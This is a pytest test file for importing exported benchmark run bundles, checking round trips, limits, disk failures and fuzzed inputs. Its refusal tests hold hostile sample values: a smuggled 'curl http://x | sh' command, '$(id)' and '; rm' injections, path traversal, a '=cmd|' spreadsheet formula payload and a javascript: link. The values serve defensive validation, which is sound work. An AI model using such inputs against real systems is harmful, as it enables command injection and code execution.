"""Imported bundles: they come back byte by byte, what is not one is refused in one line, and a refusal leaves nothing behind."""

from __future__ import annotations

import dataclasses
import json
import resource
import threading
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lab import collection, export
from lab.__main__ import main
from lab.bundle_check import LIMITS, ImportRefused, check
from lab.export import MANIFEST, RECORDS, SUMMARY, VERDICTS
from lab.imports import Imports, part
from lab.parameters import ParameterError
from lab.records import RunView
from lab.store import Store
from tests.lab import bundles
from tests.lab.bundles import changed, zipped


@pytest.fixture(scope="module", autouse=True)
def demo() -> Iterator[None]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("EFFICIENCY_LAB_WORKLOADS", "tests.demo_workloads")
        yield


@pytest.fixture
def imports(tmp_path: Path) -> Imports:
    return Imports(tmp_path, check=check)


@cache
def files() -> dict[str, bytes]:
    return export.bundle(bundles.view())


def stored(imports: Imports) -> list[str]:
    """Every file under the folder of imported runs but the lock."""
    return sorted(str(path.relative_to(imports.folder)) for path in imports.folder.rglob("*") if path.name != "changing.lock")


def refusal(imports: Imports, add: Callable[[], str]) -> str:
    with pytest.raises(ImportRefused) as refused:
        add()
    assert stored(imports) == []
    message = str(refused.value)
    assert message.isprintable()
    assert len(message) < 600
    return message


# --- what comes in is what came out ------------------------------------------------------------------------------------------


def test_an_exported_run_comes_back_byte_by_byte(store: Store, submit: Callable[..., str], engine: Any) -> None:
    """A run that the engine has made, through a process of its own as in the lab."""
    view = store.view(engine.wait(submit(repeats="2", n="1024,4096")).id)
    imports = Imports(store.home)
    reference = imports.add(export.as_zip(view))
    for name, data in export.bundle(view).items():
        assert (imports.folder / reference.removeprefix("imported/") / name).read_bytes() == data
    again = collection.view(store, reference)
    assert (again.run_id, again.plan, again.status) == (view.run_id, view.plan, "finished")
    assert [item.record for item in again.records] == [item.record for item in view.records]
    assert again.manifest == export.manifest(view)
    assert export.as_zip(again) == export.as_zip(view)
    assert [run.id for run in store.runs()] == [view.run_id]  # never among those of this machine


def test_the_same_run_in_every_form_is_one_entry(imports: Imports) -> None:
    view, given = bundles.view(), files()
    reference = imports.add(export.as_zip(view))
    assert reference.startswith("imported/")
    assert len(reference) == len("imported/") + 12
    before = stored(imports)
    spaced = json.dumps(json.loads(given[MANIFEST]), indent=8).encode()
    crlf = given[RECORDS].replace(b"\n", b"\r\n")
    quoted = b"\n".join(b",".join(b'"' + cell + b'"' for cell in line.split(b",")) for line in given[RECORDS].splitlines())
    for form in (
        export.as_zip(view),
        zipped(given, folder=""),
        zipped(given, folder="results of Anna/"),
        zipped({MANIFEST: given[MANIFEST], RECORDS: given[RECORDS]}),
        zipped({**given, MANIFEST: spaced}),
        zipped({**given, MANIFEST: b"\xef\xbb\xbf" + given[MANIFEST], RECORDS: b"\xef\xbb\xbf" + crlf}),
        zipped({**given, RECORDS: quoted}),
        export.as_json(view),
        b"\xef\xbb\xbf" + export.as_json(view),
    ):
        assert imports.add(form) == reference
    assert imports.add_files((f"{bundles.RUN_ID}-{name}", data) for name, data in given.items()) == reference
    assert stored(imports) == before
    assert imports.get(reference).notices == ()


def test_another_run_is_another_entry(imports: Imports) -> None:
    first = imports.add(export.as_zip(bundles.view()))
    second = imports.add(export.as_zip(bundles.view(hardware="Other CPU")))
    third = imports.add(export.as_zip(bundles.view(repeats="2")))
    assert len({first, second, third}) == 3
    assert {run.reference for run in imports.all()} == {first, second, third}


def test_the_list_says_what_the_manifest_says(imports: Imports) -> None:
    reference = imports.add(export.as_zip(bundles.view()))
    (run,) = imports.all()
    assert run == imports.get(reference) == imports.get(run.id)
    assert (run.reference, run.run_id, run.workload, run.preset) == (reference, bundles.RUN_ID, "demo", "quick")
    assert (run.hardware, run.measured_at, run.status, run.problem) == ("Some CPU", "2026-01-31T17:45:03Z", "finished", "")
    assert run.imported_at.endswith("Z")


def test_a_run_without_records_is_a_run(imports: Imports) -> None:
    view = bundles.view()
    failed = dataclasses.replace(view, records=[], status="failed", reason="out of memory")
    reference = imports.add(export.as_zip(failed))
    assert (imports.view(reference).status, imports.view(reference).reason) == ("failed", "out of memory")
    assert imports.add(export.as_json(failed)) == reference


def test_formulas_stay_guarded_text(imports: Imports) -> None:
    """Neither executed nor guarded twice, however often a run goes in and out."""
    view = bundles.view(reason="=cmd|' /C calc'!A0")
    reference = imports.add(export.as_zip(view))
    assert b",'=cmd|" in export.bundle(view)[RECORDS]
    again = imports.view(reference)
    assert again.records[0].record.reason == "=cmd|' /C calc'!A0"
    assert export.bundle(again) == export.bundle(view)
    assert imports.add(export.as_zip(again)) == reference


# --- what it says of itself --------------------------------------------------------------------------------------------------


def test_results_of_its_own_are_not_believed(imports: Imports) -> None:
    better = files()[SUMMARY].replace(b"0.001", b"0.0001")
    assert better != files()[SUMMARY]
    reference = imports.add(zipped({**files(), SUMMARY: better, VERDICTS: b"\xff\x00 no table"}))
    summary, verdicts = imports.get(reference).notices
    assert summary.startswith("The bundle's own summary.csv differs in 2 of 6 rows from what this version of the lab makes")
    assert verdicts.startswith("The bundle's own verdicts.csv cannot be read (is not UTF-8 CSV")
    assert export.bundle(imports.view(reference)) == files()
    assert (imports.folder / reference[9:] / SUMMARY).read_bytes() == files()[SUMMARY]


# --- refusals ----------------------------------------------------------------------------------------------------------------


def put(*path: Any, value: Any) -> Callable[[dict[str, Any]], None]:
    """A change of a manifest: the entry at ``path`` becomes ``value``."""

    def change(manifest: dict[str, Any]) -> None:
        place: Any = manifest
        for name in path[:-1]:
            place = place[name]
        place[path[-1]] = value

    return change


def nested(depth: int) -> Any:
    value: Any = 0
    for _ in range(depth):
        value = [value]
    return value


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        (put("schema_version", value=2), "manifest.json: schema_version is 2, this version reads 1"),
        (put("schema_version", value=True), "manifest.json: schema_version: should be a valid integer"),
        (put("workload", value="os"), "manifest.json: workload: 'os' is unknown"),
        (put("workload", value="../demo"), "manifest.json: workload: '../demo' is unknown"),
        (put("run_id", value="../../evil"), "manifest.json: run_id: is no id of a run"),
        (put("parameters", "speed", value=[1]), "manifest.json: speed: "),
        (put("parameters", "n", value=[-1]), "manifest.json: n: '-1' is out of range"),
        (put("parameters", "n", value=[10**30]), "manifest.json: parameters.n[0]: is too large a whole number"),
        (put("parameters", "n", value=list(range(1, 100))), "manifest.json: n: '99 values' makes 99 combinations"),
        (put("parameters", "n", value={"1024": 1}), "manifest.json: parameters.n: should be a valid list"),
        (put("parameters", value=[]), "manifest.json: parameters: should be a valid dictionary"),
        (put("preset", value="fastest"), "manifest.json: preset: is unknown; allowed: published, quick, thorough, custom"),
        (put("status", value="running"), "manifest.json: status: the run had not ended when it was exported"),
        (put("status", value="reproduced"), "manifest.json: status: should be 'finished', 'cancelled', 'failed' or 'interrupted'"),
        (put("device", value="cuda:0; rm"), "manifest.json: device: is no device; allowed: cpu, cuda:0"),
        (put("hardware", value=" "), "manifest.json: hardware: is empty; allowed: a name"),
        (put("hardware", value=["H200"]), "manifest.json: hardware: should be a valid string"),
        (put("hardware", value="H" * 201), "manifest.json: hardware: has 201 characters; allowed: at most 200"),
        (put("hardware", value="H\n200"), "manifest.json: hardware: has several lines; allowed: one"),
        (put("hardware", value="H\u202e200"), "manifest.json: hardware: holds the hidden character U+202E"),
        (put("hardware", value="\x1b[31mH200"), "manifest.json: hardware: holds the hidden character U+001B"),
        (put("hardware", value="<a href='http://x'>H200</a>"), "manifest.json: hardware: holds markup; allowed: plain text"),
        (put("hardware", value="\ud800"), "manifest.json: is not JSON"),
        (put("note", value="\x00"), "manifest.json: note: holds the hidden character U+0000"),
        (put("note\u2066", value=1), "manifest.json: a name: holds the hidden character U+2066"),
        (put("note", value="x" * 20_001), "manifest.json: note: has 20,001 characters; allowed: at most 20,000"),
        (put("note", value=nested(12)), "is nested more than 12 deep"),
        (put("note", value=list(range(20_001))), "manifest.json: has more than 20,000 values"),
        (put("machine", value="a laptop"), "manifest.json: machine: "),
        (put("machine", "cpu", value=[]), "manifest.json: machine.cpu: "),
        (put("machine", "cpu", "model", value=7), "manifest.json: machine.cpu.model: should be a valid string"),
        (put("machine", "gpus", value=["H200"]), "manifest.json: machine.gpus.0: "),
        (put("data", value="MNIST"), "manifest.json: data: should be a valid list"),
        (put("data", value=[{"label": 1}]), "manifest.json: data.0.label: should be a valid string"),
        (put("data", value=[{"label": "MNIST", "sizes": {"test": -1}}]), "manifest.json: data.0.sizes.test: "),
        (put("calibration", value={"limits": {"copy": {"value": 1.0}}}), "manifest.json: calibration.limits.copy."),
        (put("calibration", value={"limits": {"copy": 3}}), "manifest.json: calibration.limits.copy: "),
        (put("versions", value={"torch": []}), "manifest.json: versions.torch"),
        (put("started_at", value="yesterday"), "manifest.json: started_at: is no time; allowed: ISO 8601"),
        (put("started_at", value="0001-01-01T00:00:00Z"), "manifest.json: started_at: is no time"),
        (put("threads", value=0), "manifest.json: threads: should be greater than or equal to 1"),
        (put("seed", value="0"), "manifest.json: seed: should be a valid integer"),
        (put("command", value="python -m lab run demo; curl http://x | sh"), "manifest.json: command: is not “python -m lab run demo”"),
        (put("command", value="python -m lab run demo --out /etc"), "manifest.json: command: "),
        (put("command", value="python -m lab run demo --set n=$(id)"), "manifest.json: command: "),
        (put("command", value="python -m lab run demo --set evil=1"), "manifest.json: command: "),
        (put("command", value="python -m lab run demo --set"), "manifest.json: command: "),
        (put("command", value="python -m lab run activations --preset quick"), "manifest.json: command: "),
        (put("command", value="python -m lab run demo\n--preset quick"), "manifest.json: command: "),
        (lambda manifest: manifest.pop("device"), "manifest.json: device: is missing"),
        (lambda manifest: manifest.pop("run_id"), "manifest.json: run_id: is missing"),
        (lambda manifest: manifest.clear(), "manifest.json: "),
    ],
)
def test_a_manifest_that_could_mislead_is_refused(imports: Imports, change: Callable[[dict[str, Any]], object], problem: str) -> None:
    message = refusal(imports, lambda: imports.add(zipped(changed(files(), change))))
    assert problem in message


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        (b'"seed": 0', b'"seed": NaN', "manifest.json: is not JSON (NaN is not a finite number)"),
        (b'"seed": 0', b'"seed": 1e999', "manifest.json: is not JSON (1e999 is not a finite number)"),
        (b'"seed": 0', b'"seed": 0, "seed": 0', "manifest.json: is not JSON ('seed' is there twice)"),
        (b'"seed": 0', b'"seed": 0,', "manifest.json: is not JSON"),
        (b'"seed": 0', b'"seed": ' + b"9" * 5000, "manifest.json: is not JSON"),
        (b"{", b"[" * 100_000, "manifest.json: is not JSON"),
        (b"Some CPU", b"Some \xff CPU", "manifest.json: is not JSON ('utf-8' codec can't decode"),
        (b'"hardware"', b'"hardware\\u0000"', "manifest.json: a name: holds the hidden character U+0000"),
        (b"Some CPU", b"\\ud83d", "manifest.json: hardware: holds the hidden character U+D83D"),
    ],
)
def test_a_manifest_that_is_no_plain_json_is_refused(imports: Imports, old: bytes, new: bytes, problem: str) -> None:
    assert old in files()[MANIFEST]
    assert problem in refusal(imports, lambda: imports.add(zipped({**files(), MANIFEST: files()[MANIFEST].replace(old, new, 1)})))


@pytest.mark.parametrize("manifest", [b"[]", b"null", b'"text"', b"3", b""])
def test_a_manifest_that_is_no_object_is_refused(imports: Imports, manifest: bytes) -> None:
    assert "manifest.json: is not " in refusal(imports, lambda: imports.add(zipped({**files(), MANIFEST: manifest})))


ROW = f"{bundles.RUN_ID},demo,sound,new,technique,eager,cpu,float32,latency_s,0.001,s,0,0,,0,".encode()


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        (b",0.001,", b",nan,", "records.csv: row 2: 'nan' is not a finite number"),
        (b",0.001,", b",1e999,", "records.csv: row 2: '1e999' is not a finite number"),
        (b",0.001,", b"," + b"9" * 400 + b",", "is not a finite number"),
        (b",0.001,", b"," + b"9" * 5000 + b",", "is not a finite number"),
        (b",0.001,", b",1e-320,", "records.csv: row 2, value: is 1e-320; allowed: 0, and sizes from 1e-70 to 1e+70"),
        (b",0.001,", b",-1e+308,", "records.csv: row 2, value: is -1e+308; allowed: 0, and sizes from 1e-70 to 1e+70"),
        (b",0.001,", b",=1+1,", "records.csv: row 2: '=1+1' is not a finite number"),
        (b",0.001,", b",,", "records.csv: row 2: the value is missing without a reason"),
        (b",0.001,s,0,0,", b",0.001,s,-1,0,", "records.csv: row 2, repeat: is -1; allowed: 0 to 2⁶³"),
        (b",0.001,s,0,0,", b",0.001,s,0," + b"9" * 30 + b",", "records.csv: row 2, seed: is 999"),
        (b",0.001,s,0,0,", b",0.001,s,0,0," + b"x" * 20_001, "records.csv: row 2, reason: has 20,001 characters"),
        (b",0.001,s,0,0,", b",0.001,s,0,0,\x1b[2J", "records.csv: row 2, reason: holds the hidden character U+001B"),
        (b",new,", b",new\xe2\x80\xae,", "records.csv: row 2, arm: holds the hidden character U+202E"),
        (b",new,", b",<b>new</b>,", "records.csv: row 2, arm: holds markup; allowed: plain text"),
        (b",new,", b",<a href='javascript:alert(1)'>new</a>,", "records.csv: row 2, arm: holds markup"),
        (b",new,", b",&lt;script&gt;,", "records.csv: row 2, arm: holds markup"),
        (b",new,", b"," + b"n" * 201 + b",", "records.csv: row 2, arm: has 201 characters; allowed: at most 200"),
        (b",new,", b",\xff,", "records.csv: is not UTF-8 CSV"),
        (b",new,", b',"new,', "records.csv: is not UTF-8 CSV"),
        (b",cpu,", b",cuda:0,", "records.csv: row 2, device: is cuda:0; the manifest says that the run used the CPU alone"),
        (b"run_id,workload", b"workload,run_id", "records.csv: the columns are not those of demo"),
        (b"\n", b",extra\n", "records.csv: row 2 has"),
        (b"\n", b"\n\n", "records.csv: row 2 has 0 cells"),
    ],
)
def test_records_that_could_mislead_are_refused(imports: Imports, old: bytes, new: bytes, problem: str) -> None:
    assert ROW in files()[RECORDS]
    data = files()[RECORDS].replace(old, new, 1)
    assert problem in refusal(imports, lambda: imports.add(zipped({**files(), RECORDS: data})))


def test_records_that_nothing_can_be_computed_from_are_refused(imports: Imports, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise ZeroDivisionError("\x1b[31m")

    monkeypatch.setattr("lab.bundle_check.summarise", broken)
    said = "records.csv: nothing can be computed from these records as those of demo (ZeroDivisionError)"
    assert refusal(imports, lambda: imports.add(zipped(files()))) == said


@pytest.mark.parametrize(
    ("chosen", "problem"),
    [
        ({}, "manifest.json is missing"),
        ({"manifest.json": b"{}"}, "records.csv is missing; needed: manifest.json and records.csv of the same run, or its zip"),
        ({"notes.csv": b""}, "'notes.csv' is no file of a run; allowed: manifest.json, records.csv, summary.csv, verdicts.csv"),
        ({"\x1b.csv": b""}, r"'\x1b.csv' is no file of a run"),
        ({"records.csv": b"", "x-records (1).csv": b""}, "records.csv was chosen twice; allowed: the files of one run"),
    ],
)
def test_single_files_that_are_no_run_are_refused(imports: Imports, chosen: dict[str, bytes], problem: str) -> None:
    assert problem in refusal(imports, lambda: imports.add_files(chosen.items()))


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("records.csv", "records.csv"),
        ("20260131-174502-a7k2m9-manifest.json", "manifest.json"),
        ("20260131-174502-a7k2m9-verdicts (2).csv", "verdicts.csv"),
        ("summary(1).csv", "summary.csv"),
        ("myrecords.csv", ""),
        ("records.json", ""),
        ("records.csv.exe", ""),
        ("", ""),
    ],
)
def test_the_names_of_downloads_are_known(name: str, expected: str) -> None:
    assert part(name) == expected


@pytest.mark.parametrize(
    ("document", "problem"),
    [
        (b"{}", "the JSON document holds no manifest and no records"),
        (b'{"manifest": {}, "records": 3}', "the JSON document holds no manifest and no records"),
        (b'{"manifest": {}, "records": [', "the JSON document: is not JSON"),
        (b'{"manifest": {}, "records": []}', "manifest.json: schema_version is None"),
        (b"{" * 100_000, "the JSON document: is not JSON"),
        (b'{"manifest": {}, "records": [' + b"9" * 4000 + b"]}", "is not a finite number"),
    ],
)
def test_a_document_that_is_no_run_is_refused(imports: Imports, document: bytes, problem: str) -> None:
    assert problem in refusal(imports, lambda: imports.add(document))


@pytest.mark.parametrize("value", ["0.001", True, [0.001], {"value": 1}])
def test_a_document_with_other_types_is_refused(imports: Imports, value: Any) -> None:
    document = json.loads(export.as_json(bundles.view()))
    document["records"][1]["value"] = value
    said = "records: value of number 2 has another type than records have"
    assert refusal(imports, lambda: imports.add(json.dumps(document).encode())) == said


# --- limits ------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("limits", "problem"),
    [
        ({"upload_bytes": 100}, r"has [0-9,]+ bytes; allowed: at most 100"),
        ({"unpacked_bytes": 1000}, "the files in the zip take more than 1,000 bytes unpacked"),
        ({"manifest_bytes": 500}, r"manifest.json has [0-9,]+ bytes; allowed: at most 500"),
        ({"records": 3}, "records.csv: has more than 3 rows"),
    ],
)
def test_each_limit_says_what_is_allowed(tmp_path: Path, limits: dict[str, int], problem: str) -> None:
    imports = Imports(tmp_path, dataclasses.replace(LIMITS, **limits), check)
    with pytest.raises(ImportRefused, match=problem):
        imports.add(zipped(files()))
    assert stored(imports) == []
    loose = Imports(tmp_path, dataclasses.replace(LIMITS, records=4), check)
    assert loose.view(loose.add(zipped(files())))


def test_single_files_count_together(tmp_path: Path) -> None:
    imports = Imports(tmp_path, dataclasses.replace(LIMITS, upload_bytes=max(map(len, files().values()))), check)
    assert "bytes; allowed: at most" in refusal(imports, lambda: imports.add_files(files().items()))


def test_only_so_many_runs_are_kept(tmp_path: Path) -> None:
    imports = Imports(tmp_path, dataclasses.replace(LIMITS, runs=2), check)
    first, second, third = (export.as_zip(bundles.view(seed=str(seed))) for seed in range(3))
    kept = [imports.add(first), imports.add(second)]
    with pytest.raises(ImportRefused, match="2 runs are imported, which is the most; remove one first"):
        imports.add(third)
    assert imports.add(first) == kept[0]  # one that is there needs no room
    imports.remove(kept[0])
    assert imports.add(third)
    assert len(imports.all()) == 2


# --- the disk ----------------------------------------------------------------------------------------------------------------


def test_a_full_disk_leaves_nothing(imports: Imports) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    data = zipped(files())
    resource.setrlimit(resource.RLIMIT_FSIZE, (500, hard))
    try:
        with pytest.raises(ImportRefused, match="the run cannot be kept in"):
            imports.add(data)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert stored(imports) == []
    assert imports.add(data)


def test_a_home_that_is_a_file_is_told(tmp_path: Path) -> None:
    (tmp_path / "imported").write_text("in the way")
    with pytest.raises(ImportRefused, match="the run cannot be kept in"):
        Imports(tmp_path, check=check).add(zipped(files()))


def test_what_a_killed_process_left_is_swept_away(imports: Imports) -> None:
    reference = imports.add(zipped(files()))
    torn = imports.folder / f".{reference[9:]}.0123"
    torn.mkdir()
    (torn / "records.csv").write_text("half of")
    assert [run.reference for run in imports.all()] == [reference]
    imports.add(export.as_zip(bundles.view(seed="1")))
    assert not torn.exists()


def test_many_at_once_are_one_entry(imports: Imports) -> None:
    data, found = zipped(files()), []
    threads = [threading.Thread(target=lambda: found.append(imports.add(data))) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(found) == 4
    assert len(set(found)) == 1
    assert len(imports.all()) == 1


# --- reading and removing ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["", "imported/", "imported/../runs", "imported/0123456789ab", "0123456789AB", "imported/imported/x", ".."]
)
def test_an_unknown_run_is_refused(imports: Imports, name: str) -> None:
    for ask in (imports.view, imports.get, imports.remove):
        with pytest.raises(ParameterError, match="is unknown; allowed: a run that was imported here"):
            ask(name)


def test_a_removed_run_is_gone_and_the_others_stay(imports: Imports) -> None:
    first, second = imports.add(zipped(files())), imports.add(export.as_zip(bundles.view(seed="1")))
    imports.remove(first)
    assert [run.reference for run in imports.all()] == [second]
    assert imports.view(second)
    assert all(name.startswith(second[9:]) for name in stored(imports))
    with pytest.raises(ParameterError, match="is unknown"):
        imports.view(first)


def test_a_link_is_no_imported_run(imports: Imports, tmp_path: Path) -> None:
    reference = imports.add(zipped(files()))
    elsewhere = tmp_path / "elsewhere"
    (imports.folder / reference[9:]).rename(elsewhere)
    (imports.folder / reference[9:]).symlink_to(elsewhere)
    assert imports.all() == []
    with pytest.raises(ParameterError, match="is unknown"):
        imports.remove(reference)
    assert (elsewhere / RECORDS).exists()


@pytest.mark.parametrize("name", [MANIFEST, RECORDS])
@pytest.mark.parametrize("data", [None, b"", b"{}", b"\xff"])
def test_a_damaged_entry_is_listed_and_can_be_removed(imports: Imports, name: str, data: bytes | None) -> None:
    reference = imports.add(zipped(files()))
    path = imports.folder / reference[9:] / name
    path.unlink()
    if data is not None:
        path.write_bytes(data)
    (run,) = imports.all()
    assert bool(run.problem) == (name == MANIFEST)
    with pytest.raises(ParameterError, match=f"'{reference}' cannot be read"):
        imports.view(reference)
    imports.remove(reference)
    assert imports.all() == []


def test_what_was_noted_may_be_lost(imports: Imports) -> None:
    reference = imports.add(zipped(files()))
    (imports.folder / reference[9:] / "import.json").write_text("[]")
    assert (imports.get(reference).imported_at, imports.get(reference).notices) == ("", ())


# --- the command line --------------------------------------------------------------------------------------------------------


def test_the_command_prints_the_reference(home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any) -> None:
    monkeypatch.setattr("lab.imports.Imports.__init__.__defaults__", (LIMITS, check))
    whole = tmp_path / "run.zip"
    whole.write_bytes(zipped({**files(), SUMMARY: b"x"}))
    assert main(["import", str(whole)]) == 0
    captured = capsys.readouterr()
    (run,) = Imports(home).all()
    assert captured.out == f"{run.reference}\n"
    assert captured.err.startswith("The bundle's own summary.csv")
    for name, data in files().items():
        (tmp_path / name).write_bytes(data)
    assert main(["import", *(str(tmp_path / name) for name in files())]) == 0
    assert capsys.readouterr().out == f"{run.reference}\n"


@pytest.mark.parametrize(("content", "problem"), [(b"hello", "is not a zip file"), (None, "cannot be read (No such file or directory)")])
def test_the_command_refuses_in_one_line(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes | None, problem: str
) -> None:
    path = tmp_path / "run.zip"
    if content is not None:
        path.write_bytes(content)
    assert main(["import", str(path)]) == 2
    captured = capsys.readouterr()
    assert (captured.out, captured.err) == ("", f"import: 'run.zip' was not imported: {problem}\n")


# --- whatever comes ----------------------------------------------------------------------------------------------------------


EXAMPLES = 50  # each imports, and most of those accepted again: 3,000 of each kind have been tried


def holds(imports: Imports, add: Callable[[], str]) -> None:
    """Whatever was added is refused and leaves nothing, or is a run like any other."""
    reference, message = "", ""
    try:
        reference = add()
    except ImportRefused as error:
        message = str(error)
    assert message.isprintable()
    if not reference:
        assert stored(imports) == []
        return
    view: RunView = imports.view(reference)
    assert imports.get(reference).problem == ""
    assert imports.add(export.as_zip(view)) == reference
    assert imports.add(export.as_json(view)) == reference
    imports.remove(reference)
    assert stored(imports) == []


EDITS = st.lists(st.tuples(st.floats(0, 1), st.integers(0, 3), st.binary(max_size=3)), min_size=1, max_size=3)


def edited(data: bytes, edits: list[tuple[float, int, bytes]]) -> bytes:
    for where, removed, put_in in edits:
        place = int(where * len(data))
        data = data[:place] + put_in + data[place + removed :]
    return data


@settings(max_examples=EXAMPLES)
@given(edits=EDITS, file=st.sampled_from([MANIFEST, RECORDS, SUMMARY, VERDICTS, "run.zip", "run.json"]))
def test_a_bundle_with_any_bytes_changed(edits: list[tuple[float, int, bytes]], file: str, tmp_path_factory: Any) -> None:
    imports = Imports(tmp_path_factory.getbasetemp() / "bytes", check=check)
    if file == "run.zip":
        data = edited(zipped(files()), edits)
    elif file == "run.json":
        data = edited(export.as_json(bundles.view()), edits)
    else:
        data = zipped({**files(), file: edited(files()[file], edits)})
    holds(imports, lambda: imports.add(data))


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)


@settings(max_examples=EXAMPLES)
@given(place=st.floats(0, 0.999), value=JSON_VALUES)
def test_a_manifest_with_any_value_anywhere(place: float, value: Any, tmp_path_factory: Any) -> None:
    imports = Imports(tmp_path_factory.getbasetemp() / "values", check=check)

    def change(manifest: dict[str, Any]) -> None:
        slots: list[tuple[Any, Any]] = []

        def collect(item: Any) -> None:
            for key in item if isinstance(item, dict) else range(len(item)):
                slots.append((item, key))
                if isinstance(item[key], dict | list):
                    collect(item[key])

        collect(manifest)
        item, key = slots[int(place * len(slots))]
        item[key] = value

    holds(imports, lambda: imports.add(zipped(changed(files(), change))))


@settings(max_examples=EXAMPLES)
@given(column=st.integers(0, 30), row=st.integers(1, 4), cell=st.text(max_size=8) | st.floats().map(repr) | st.integers().map(str))
def test_records_with_any_cell_anywhere(column: int, row: int, cell: str, tmp_path_factory: Any) -> None:
    imports = Imports(tmp_path_factory.getbasetemp() / "cells", check=check)
    lines = [line.split(",") for line in files()[RECORDS].decode().splitlines()]
    lines[row][column % len(lines[row])] = '"' + cell.replace('"', '""') + '"'
    data = "\n".join(",".join(line) for line in lines).encode("utf-8", "surrogatepass")
    holds(imports, lambda: imports.add(zipped({**files(), RECORDS: data})))
